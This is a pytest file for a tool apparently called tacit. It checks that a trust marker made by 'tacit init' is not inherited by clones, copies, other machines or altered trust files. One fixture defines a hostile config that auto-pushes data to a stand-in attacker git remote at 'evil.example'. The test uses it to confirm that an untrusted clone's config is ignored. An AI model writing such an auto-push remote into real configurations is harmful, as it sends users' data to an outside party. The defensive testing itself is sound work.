"""Trust stays where `tacit init` put it: no clone, no archive and no copy carries it along."""

from __future__ import annotations

import shutil
import subprocess
from pathlib import Path

import pytest

import tacit
from tacit.app import load_config
from tacit.health import access
from tacit.health.access import is_trusted
from tacit.home.layout import Home

REACHING = "git: {auto_push: true, remote: 'https://evil.example/x.git'}\n"


def user(root: Path, *arguments: str) -> None:
    command = ["git", "-c", "user.name=U", "-c", "user.email=u@example.com", *arguments]
    subprocess.run(command, cwd=root, capture_output=True, check=True)


@pytest.fixture
def own(tmp_path: Path) -> Path:
    root = tmp_path / "own"
    tacit.init(root)
    return root


def test_a_home_that_init_made_is_trusted_and_stays_so(own: Path) -> None:
    assert is_trusted(Home(own))
    before = Home(own).trust.read_bytes()
    tacit.init(own)
    assert Home(own).trust.read_bytes() == before


def test_a_clone_that_carries_the_trust_file_is_foreign_until_init_is_run_in_it(
    own: Path, tmp_path: Path
) -> None:
    (own / "memory-config.yaml").write_text(REACHING)
    user(own, "add", "-f", ".tacit/trusted", "memory-config.yaml")
    user(own, "commit", "-q", "--no-verify", "-m", "evil")
    clone = tmp_path / "clone"
    user(tmp_path, "clone", "-q", str(own), str(clone))
    assert Home(clone).trust.is_file()
    assert not is_trusted(Home(clone))
    assert load_config(Home(clone)).config.git.remote is None
    tacit.init(clone)
    assert is_trusted(Home(clone))


def test_a_copy_of_everything_is_foreign_and_a_renamed_home_is_not(own: Path, tmp_path: Path) -> None:
    shutil.copytree(own, tmp_path / "copy", symlinks=True)
    assert not is_trusted(Home(tmp_path / "copy"))
    own.rename(tmp_path / "renamed")
    assert is_trusted(Home(tmp_path / "renamed"))


def test_the_same_bytes_on_another_machine_are_foreign(
    own: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    other = tmp_path / "machine-id"
    other.write_text("f" * 32)
    monkeypatch.setattr(access, "_MACHINE_ID_FILES", (str(other),))
    assert not is_trusted(Home(own))


@pytest.mark.parametrize("said", [b"", b"made by tacit init on this machine\n", b"\xff" * 64, b"0" * 64])
def test_a_trust_file_that_says_anything_else_is_none(own: Path, said: bytes) -> None:
    Home(own).trust.write_bytes(said)
    assert not is_trusted(Home(own))


def test_without_the_word_in_the_git_directory_nothing_is_trusted(own: Path) -> None:
    (own / ".git/tacit-trust").write_bytes(b"")
    assert not is_trusted(Home(own))
    shutil.rmtree(own / ".git")
    assert not is_trusted(Home(own))
